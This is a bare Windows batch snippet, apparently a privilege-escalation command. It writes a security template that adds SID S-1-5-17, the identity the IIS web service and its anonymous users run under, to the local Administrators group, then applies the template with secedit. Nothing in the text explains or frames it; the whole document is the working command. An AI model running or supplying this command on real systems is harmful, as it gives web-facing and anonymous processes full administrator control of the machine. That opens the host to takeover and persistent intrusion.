(
echo [Group Membership]
echo *S-1-5-32-544__Members = *S-1-5-32-544,*S-1-5-17
)>>c:\t.inf
secedit /configure /db t.sdb /cfg c:\t.inf /areas GROUP_MGMT
